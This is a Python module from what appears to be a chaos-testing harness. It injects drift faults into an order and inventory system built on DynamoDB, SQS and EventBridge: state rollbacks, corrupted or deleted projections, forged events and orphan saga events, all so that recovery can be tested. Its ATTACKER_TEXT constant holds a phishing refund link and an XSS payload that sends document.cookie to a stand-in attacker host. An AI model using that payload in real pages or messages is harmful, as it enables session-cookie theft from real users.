"""Drift faults: the state itself goes wrong (a restore's copy-back, a consumer bug, a forged message), written
through the declared entity layouts and projections (`converge.projections`), never through spelled-out keys."""

from __future__ import annotations

import json
import random
import uuid
from collections.abc import Callable, Collection
from dataclasses import dataclass
from datetime import datetime
from typing import Any, Protocol

from converge.contracts import with_tables
from converge.projections import (
    CUSTOMER_PREFIX,
    NOTIFICATION_SK_PREFIX,
    ORDER,
    PRODUCT,
    PROJECTIONS,
    EntityLayout,
)
from localcloud.faults.plan import DRIFT_KINDS, DRIFT_STATS, FaultPlan, PlannedFaults

FORGED_KINDS = ("stock-updated-huge-version", "order-rejected-attacker-text", "stock-reserved-for-pending-order")
ORPHAN_KINDS = ("order-placed", "stock-reserved", "stock-reservation-failed")
FORGED_VERSION = 10**12  # far beyond any real entity version: a consumer applying it ignores every real event after
ATTACKER_TEXT = (
    "Your order was rejected. Claim your refund at https://refunds.attacker.invalid/?session="
    "<script>document.location='https://attacker.invalid/?c='+document.cookie</script>"
)


# The sources of truth (every service contract's entity layouts): table (logical id) -> its entities' layouts.
SOURCE_TABLES: dict[str, tuple[EntityLayout, ...]] = {str(s.table): s.layouts for s in with_tables() if s.layouts}
TABLES = {s.name: str(s.table) for s in with_tables()}  # service -> its table's logical id
PROJECTION_TABLE = TABLES["notifications"]
# The declared projections drift faults corrupt and delete, and the order notifications among them: the
# confirmations and rejections (a shipped notification is left alone).
DRIFTED_PROJECTIONS = tuple(p for p in PROJECTIONS if p.table == "notifications")
DRIFTED_NOTIFICATION_KINDS = ("ORDER_CONFIRMED", "ORDER_REJECTED")
MAX_EARLIER_IMAGES = 8  # per source item: enough choice for a rollback without keeping every image of a long run


class Clock(Protocol):
    def now_datetime(self) -> datetime: ...


class Deployment(Protocol):
    @property
    def physical(self) -> dict[str, str]: ...  # logical id -> physical id


class Cloud(Protocol):
    """What drift needs from the cloud it drifts (LocalCloud): its clients, clock and deployed resources."""

    @property
    def clients(self) -> Any: ...  # boto3 clients by service name (dynamodb, dynamodbstreams, sqs)

    @property
    def clock(self) -> Clock: ...

    @property
    def deployment(self) -> Deployment: ...

    def table_name(self, logical_id: str) -> str: ...

    def queue_url(self, logical_id: str) -> str: ...


@dataclass
class DriftFault:
    """One drift fault as injected: what it changed, for tests, the state machine and the report."""

    kind: str  # one of DRIFT_KINDS
    variant: str  # the item's kind (order, product, reservation, availability, ...) or the event's (FORGED_KINDS...)
    where: str  # the table or inbox queue (logical id)
    entity_id: str  # the order or product it concerns
    key: tuple[str, str] | None = None  # the item's (pk, sk), for a table fault
    before: dict[str, Any] | None = None  # the item before (plain values)
    after: dict[str, Any] | None = None  # the item written (None: deleted), or the state the sent event carries
    body: str | None = None  # the message sent, for an event fault

    def describe(self) -> str:
        where = f"{self.where} {self.key[0]}/{self.key[1]}" if self.key else self.where
        return f"{self.kind} ({self.variant}) of {self.entity_id} in {where}"


class TableWatch:
    """What a table's stream (NEW_AND_OLD_IMAGES) showed: each item's current image and, for source tables, its
    earlier images by version - the copies a point-in-time restore would bring back. Read incrementally, a fresh
    iterator per read (as localcloud/streams.py reads, for the same reason); images are DynamoDB JSON, ready for
    PutItem."""

    def __init__(self, table: str, *, keep_earlier: bool) -> None:
        self.table = table
        self.keep_earlier = keep_earlier
        self.latest: dict[tuple[str, str], dict[str, Any]] = {}
        self.earlier: dict[tuple[str, str], dict[int, dict[str, Any]]] = {}
        self._positions: dict[str, str | None] = {}  # shard id -> last sequence number read
        self._stream_arn: str | None = None

    def refresh(self, cloud: Cloud) -> None:
        streams = cloud.clients.dynamodbstreams
        if self._stream_arn is None:
            table = cloud.clients.dynamodb.describe_table(TableName=cloud.table_name(self.table))["Table"]
            self._stream_arn = table.get("LatestStreamArn")
            if self._stream_arn is None:
                return
        for shard in streams.describe_stream(StreamArn=self._stream_arn)["StreamDescription"].get("Shards", []):
            shard_id = shard["ShardId"]
            last = self._positions.get(shard_id)
            position: dict[str, Any] = (
                {"ShardIteratorType": "TRIM_HORIZON"}
                if last is None
                else {"ShardIteratorType": "AFTER_SEQUENCE_NUMBER", "SequenceNumber": last}
            )
            iterator = streams.get_shard_iterator(StreamArn=self._stream_arn, ShardId=shard_id, **position)
            cursor = iterator["ShardIterator"]
            while cursor:
                response = streams.get_records(ShardIterator=cursor, Limit=1000)
                records = response.get("Records", [])
                if not records:
                    break
                for record in records:
                    self._see(record["dynamodb"])
                    self._positions[shard_id] = record["dynamodb"]["SequenceNumber"]
                cursor = response.get("NextShardIterator")

    def _see(self, change: dict[str, Any]) -> None:
        keys = change["Keys"]
        key = (str(keys["pk"]["S"]), str(keys.get("sk", {}).get("S", "")))
        new, old = change.get("NewImage"), change.get("OldImage")
        if self.keep_earlier:
            for image in (old, new):
                if image is not None and "version" in image:
                    images = self.earlier.setdefault(key, {})
                    images[_version(image)] = image
                    while len(images) > MAX_EARLIER_IMAGES:
                        del images[min(images)]
        if new is None:
            self.latest.pop(key, None)
        else:
            self.latest[key] = new


class DriftFaults(PlannedFaults):
    """Drift, rolled per call of `drift` (the chaos command: per scenario operation), or injected one kind at a
    time by tests and the state machine."""

    def __init__(self, plan: FaultPlan | None = None) -> None:
        super().__init__(plan)
        self.forged_bodies: dict[str, str] = {}  # body -> "forged:<kind>" / "orphan:<kind>", for the accounting
        self.drift_log: list[DriftFault] = []  # every drift fault, in order
        self._watches: dict[str, TableWatch] = {}

    def drift(self, cloud: Cloud) -> list[DriftFault]:
        """One roll per drift kind at its plan rate; the faults injected (none once faults are stopped).

        The chaos command calls this after every scenario operation, so the rates are fractions of operations."""
        if not self.active:
            return []
        inject: dict[str, Callable[[Cloud], DriftFault | None]] = {
            "source_rollback": self.rollback_source,
            "projection_corruption": self.corrupt_projection,
            "projection_deletion": self.delete_projection,
            "forged_event": self.forge_event,
            "orphan_saga_event": self.inject_orphan_saga_event,
        }
        injected = []
        for kind in DRIFT_KINDS:
            if self._roll(kind, getattr(self.plan, kind)):
                fault = inject[kind](cloud)
                if fault is not None:
                    injected.append(fault)
        return injected

    def watch(self, cloud: Cloud, table: str) -> TableWatch | None:
        """What the stream of `table` (a logical id) showed so far, brought up to date; None if the template has no
        such table."""
        if table not in cloud.deployment.physical:
            return None
        if table not in self._watches:
            self._watches[table] = TableWatch(table, keep_earlier=table in SOURCE_TABLES)
        watch = self._watches[table]
        watch.refresh(cloud)
        return watch

    def _record(self, fault: DriftFault) -> DriftFault:
        self.stats[DRIFT_STATS[fault.kind]] += 1
        self.drift_log.append(fault)
        return fault

    def rollback_source(
        self, cloud: Cloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Put a source item back to an earlier image of itself (PutItem of the old image, old version and
        `updated_at` included), as copying items back from a point-in-time restore does. Only items that had an
        earlier version qualify; `entity_ids` narrows the choice to those orders and products. None if none."""
        rng = rng or self._rng("source_rollback")
        candidates = self.rollback_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for table, key in candidates:
            current, found = _get(cloud, table, key), _source_of(table, key)
            if current is None or found is None:
                continue
            version = _version(current)
            earlier = sorted(v for v in self._watches[table].earlier[key] if v < version)
            if not earlier:
                continue
            image = self._watches[table].earlier[key][rng.choice(earlier)]
            cloud.clients.dynamodb.put_item(TableName=cloud.table_name(table), Item=image)
            layout, entity_id = found
            variant = layout.prefix.removesuffix("#").lower()
            fault = DriftFault("source_rollback", variant, table, entity_id, key, _plain(current), _plain(image))
            return self._record(fault)
        return None

    def rollback_keys(
        self, cloud: Cloud, entity_ids: Collection[str] | None = None
    ) -> list[tuple[str, tuple[str, str]]]:
        """(table, key) of every source item (of `entity_ids`) the stream showed at an earlier version than its
        current one: what `rollback_source` may choose from."""
        candidates: list[tuple[str, tuple[str, str]]] = []
        for table in SOURCE_TABLES:
            watch = self.watch(cloud, table)
            if watch is None:
                continue
            candidates += [
                (table, key)
                for key, images in watch.earlier.items()
                if key in watch.latest
                and min(images) < _version(watch.latest[key])
                and (found := _source_of(table, key)) is not None
                and _selected(found[1], entity_ids)
            ]
        return candidates

    def projection_keys(self, cloud: Cloud, entity_ids: Collection[str] | None = None) -> list[tuple[str, str]]:
        """Keys of the projection items (of `entity_ids`) that exist: what `corrupt_projection` and
        `delete_projection` may choose from."""
        watch = self.watch(cloud, PROJECTION_TABLE)
        if watch is None:
            return []
        return [
            key
            for key in watch.latest
            if (found := _projection_of(key)) is not None and _selected(found[1], entity_ids)
        ]

    def corrupt_projection(
        self, cloud: Cloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Rewrite a projection item with wrong data at its current version, as a consumer bug would: availability
        numbers changed, an order outcome's status changed, an order notification's reason (rejected) or order id
        (confirmed) changed. None if no projection item exists (of `entity_ids`)."""
        rng = rng or self._rng("projection_corruption")
        candidates = self.projection_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for key in candidates:
            current, found = _get(cloud, PROJECTION_TABLE, key), _projection_of(key)
            if current is None or found is None:
                continue
            before = _plain(current)
            kind, entity = found
            wrong = dict(before)
            if kind == "availability":
                wrong["on_hand"] = int(before["on_hand"]) + rng.randint(1, 5)
                wrong["available"] = wrong["on_hand"] - int(before["reserved"])
            elif kind == "order_outcome":
                wrong["status"] = rng.choice(
                    [s for s in ("CONFIRMED", "REJECTED", "CANCELLED") if s != before["status"]]
                )
            elif _notification_kind(key) == "ORDER_REJECTED":
                wrong["reason"] = f"{before.get('reason') or ''} (corrupted by a consumer bug #{rng.randint(1, 999)})"
            else:
                wrong["order_id"] = f"{before.get('order_id', 'order')}-corrupted"
            cloud.clients.dynamodb.put_item(TableName=cloud.table_name(PROJECTION_TABLE), Item=_typed(wrong))
            return self._record(DriftFault("projection_corruption", kind, PROJECTION_TABLE, entity, key, before, wrong))
        return None

    def delete_projection(
        self, cloud: Cloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Delete a projection item (availability, order outcome or order notification). None if there is none."""
        rng = rng or self._rng("projection_deletion")
        candidates = self.projection_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for key in candidates:
            current, found = _get(cloud, PROJECTION_TABLE, key), _projection_of(key)
            if current is None or found is None:
                continue
            cloud.clients.dynamodb.delete_item(TableName=cloud.table_name(PROJECTION_TABLE), Key=_typed_key(key))
            kind, entity = found
            fault = DriftFault("projection_deletion", kind, PROJECTION_TABLE, entity, key, _plain(current), None)
            return self._record(fault)
        return None

    def _pick(
        self,
        cloud: Cloud,
        rng: random.Random,
        layout: EntityLayout,
        entity_ids: Collection[str] | None,
        status: str | None = None,
    ) -> dict[str, Any] | None:
        """A current item (plain) of the entity `layout` (and of `status`), as the stream of its table showed it;
        None if there is none."""
        watch = self.watch(cloud, TABLES[layout.table])
        if watch is None:
            return None
        images = [
            image
            for key, image in watch.latest.items()
            if (entity_id := layout.id_of(*key)) is not None
            and _selected(entity_id, entity_ids)
            and (status is None or image.get("status", {}).get("S") == status)
        ]
        return _plain(rng.choice(images)) if images else None

    def _forged(
        self, cloud: Cloud, rng: random.Random, kind: str, entity_ids: Collection[str] | None
    ) -> tuple[str, dict[str, Any]] | None:
        """(inbox, entity state) of a forged event of `kind`, or None if no entity of that kind exists."""
        if kind == "stock-updated-huge-version":
            product = self._pick(cloud, rng, PRODUCT, entity_ids)
            if product is None:
                return None
            on_hand = rng.randint(0, 1000)
            reserved = rng.randint(0, on_hand)
            numbers = {"on_hand": on_hand, "reserved": reserved, "available": on_hand - reserved}
            return "NotificationsInbox", {"product_id": product["product_id"], **numbers, "event_type": "StockUpdated"}
        if kind == "order-rejected-attacker-text":
            order = self._pick(cloud, rng, ORDER, entity_ids)
            if order is None:
                return None
            # The order's own fields as its table holds them: a priced order (schema v2) carries its currency.
            fields = ("order_id", "customer_id", "lines", "currency")
            state: dict[str, Any] = {k: order[k] for k in fields if k in order}
            return "NotificationsInbox", state | {
                "status": "REJECTED",
                "reason": ATTACKER_TEXT,
                "event_type": "OrderRejected",
            }
        if kind == "stock-reserved-for-pending-order":
            order = self._pick(cloud, rng, ORDER, entity_ids, status="PENDING")
            if order is None:
                return None
            # A reservation names quantities, not the order's prices.
            lines = [{"product_id": line["product_id"], "quantity": line["quantity"]} for line in order["lines"]]
            state = {"order_id": order["order_id"], "lines": lines, "status": "RESERVED"}
            return "OrdersInbox", state | {"event_type": "StockReserved"}
        raise ValueError(f"unknown forged event kind {kind!r}; known: {FORGED_KINDS}")

    def forge_event(
        self,
        cloud: Cloud,
        rng: random.Random | None = None,
        *,
        kind: str | None = None,
        entity_ids: Collection[str] | None = None,
    ) -> DriftFault | None:
        """Send a forged event straight into an inbox (SendMessage, bypassing the bus): valid per the contract, with
        the right `source` for its type, a huge version and made-up data. Kinds (`FORGED_KINDS`, in turn unless
        `kind`): StockUpdated of a real product into the notifications inbox; OrderRejected of a real order with
        an attacker's text as its reason, into the notifications inbox; StockReserved of a PENDING order into the
        orders inbox. A kind that has no entity to name is skipped for the next one; None if none has."""
        rng = rng or self._rng("forged_event")
        number = self.stats[DRIFT_STATS["forged_event"]] + 1
        start = (number - 1) % len(FORGED_KINDS)
        kinds = [kind] if kind else [FORGED_KINDS[(start + i) % len(FORGED_KINDS)] for i in range(len(FORGED_KINDS))]
        at = cloud.clock.now_datetime().isoformat()
        stamp = {"version": FORGED_VERSION + number, "correlation_id": f"localcloud-forged-{number}", "updated_at": at}
        for chosen in kinds:
            forged = self._forged(cloud, rng, chosen, entity_ids)
            if forged is not None:
                queue, state = forged
                return self._send_event(cloud, rng, "forged_event", chosen, queue, state | stamp)
        return None

    def inject_orphan_saga_event(
        self,
        cloud: Cloud,
        rng: random.Random | None = None,
        *,
        kind: str | None = None,
        entity_ids: Collection[str] | None = None,
    ) -> DriftFault | None:
        """Send a saga event of an order that does not exist (a fresh order id, real product ids) straight into an
        inbox. Kinds (`ORPHAN_KINDS`, in turn unless `kind`): OrderPlaced into the inventory inbox (it reserves
        stock); StockReserved and StockReservationFailed into the orders inbox. None if no product exists."""
        rng = rng or self._rng("orphan_saga_event")
        watch = self.watch(cloud, TABLES[PRODUCT.table])
        products = [
            product_id
            for key in (watch.latest if watch else {})
            if (product_id := PRODUCT.id_of(*key)) is not None and _selected(product_id, entity_ids)
        ]
        if not products:
            return None
        number = self.stats[DRIFT_STATS["orphan_saga_event"]] + 1
        chosen = kind or ORPHAN_KINDS[(number - 1) % len(ORPHAN_KINDS)]
        order_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        picked = rng.sample(sorted(products), k=min(len(products), rng.randint(1, 2)))
        lines = [{"product_id": p, "quantity": rng.randint(1, 3)} for p in picked]
        at = cloud.clock.now_datetime().isoformat()
        item: dict[str, Any] = {"order_id": order_id, "lines": lines, "version": 1, "updated_at": at}
        item["correlation_id"] = f"localcloud-orphan-{number}"
        if chosen == "order-placed":
            item |= {"customer_id": f"orphan-customer-{number}", "status": "PENDING", "event_type": "OrderPlaced"}
            queue = "InventoryInbox"
        elif chosen == "stock-reserved":
            item |= {"status": "RESERVED", "event_type": "StockReserved"}
            queue = "OrdersInbox"
        elif chosen == "stock-reservation-failed":
            item |= {"status": "FAILED", "reason": "insufficient stock", "shortages": picked[:1]}
            item["event_type"] = "StockReservationFailed"
            queue = "OrdersInbox"
        else:
            raise ValueError(f"unknown orphan saga event kind {chosen!r}; known: {ORPHAN_KINDS}")
        return self._send_event(cloud, rng, "orphan_saga_event", chosen, queue, item)

    def _send_event(
        self, cloud: Cloud, rng: random.Random, fault: str, kind: str, queue: str, item: dict[str, Any]
    ) -> DriftFault | None:
        """Send the event `item` represents (an entity item's state, as the publisher builds events) to `queue`,
        shaped as the inbox rule delivers it; the message must parse (else it would be poison, not a forgery)."""
        if queue not in cloud.deployment.physical:
            return None
        body = eventbridge_body(item, str(uuid.UUID(int=rng.getrandbits(128), version=4)))
        cloud.clients.sqs.send_message(QueueUrl=cloud.queue_url(queue), MessageBody=body)
        self.forged_bodies[body] = f"{'forged' if fault == 'forged_event' else 'orphan'}:{kind}"
        entity_id = str(item.get("product_id") or item["order_id"])
        return self._record(DriftFault(fault, kind, queue, entity_id, after=item, body=body))


def eventbridge_body(item: dict[str, Any], envelope_id: str, bus_name: str = "converge-bus") -> str:
    """The SQS message body an inbox rule delivers for the event an entity item's state represents (the same
    `event_from_item` the publisher uses): the whole EventBridge event, `source` set from the event type. Raises
    if the result does not parse as a contract event."""
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.bus import to_entry
    from converge.envelope import event_from_item, parse_eventbridge_json

    event = event_from_item(item)
    if event is None:
        raise ValueError(f"not an entity item (no event_type): {item}")
    entry = to_entry(event, bus_name)
    envelope = {
        "version": "0",
        "id": envelope_id,
        "detail-type": entry["DetailType"],
        "source": entry["Source"],
        "account": "123456789012",
        "time": event.metadata.occurred_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "region": "us-east-1",
        "resources": [],
        "detail": json.loads(entry["Detail"]),
    }
    body = json.dumps(envelope)
    parse_eventbridge_json(body)
    return body


def _selected(entity_id: str, entity_ids: Collection[str] | None) -> bool:
    return entity_ids is None or entity_id in entity_ids


def _source_of(table: str, key: tuple[str, str]) -> tuple[EntityLayout, str] | None:
    """The layout and entity id of a source table's item, or None if it is none of the table's entities."""
    for layout in SOURCE_TABLES[table]:
        entity_id = layout.id_of(*key)
        if entity_id is not None:
            return layout, entity_id
    return None


def _notification_kind(key: tuple[str, str]) -> str | None:
    """The kind of a customer's notification (ORDER_CONFIRMED, ...), or None if the item is not one."""
    pk, sk = key
    if not pk.startswith(CUSTOMER_PREFIX) or not sk.startswith(NOTIFICATION_SK_PREFIX):
        return None
    return sk.removeprefix(NOTIFICATION_SK_PREFIX).partition("#")[0]


def _projection_of(key: tuple[str, str]) -> tuple[str, str] | None:
    """(declared projection, source entity id) of a notifications item drift may touch (docs/items.md), or None
    (watches, back-in-stock and shipped notifications: not drifted)."""
    for projection in DRIFTED_PROJECTIONS:
        entity_id = projection.source_id_of(*key)
        if entity_id is not None and _notification_kind(key) in (None, *DRIFTED_NOTIFICATION_KINDS):
            return projection.name, entity_id
    return None


def _version(image: dict[str, Any]) -> int:
    return int(image.get("version", {}).get("N", 0))


def _get(cloud: Cloud, table: str, key: tuple[str, str]) -> dict[str, Any] | None:
    response = cloud.clients.dynamodb.get_item(
        TableName=cloud.table_name(table), Key=_typed_key(key), ConsistentRead=True
    )
    item: dict[str, Any] | None = response.get("Item")
    return item


def _typed_key(key: tuple[str, str]) -> dict[str, Any]:
    return {"pk": {"S": key[0]}, "sk": {"S": key[1]}}


def _plain(image: dict[str, Any]) -> dict[str, Any]:
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.dynamo import from_item

    return from_item(image)


def _typed(item: dict[str, Any]) -> dict[str, Any]:
    from localcloud.loader import ensure_layer_on_path

    ensure_layer_on_path()
    from converge.dynamo import to_item

    return to_item(item)
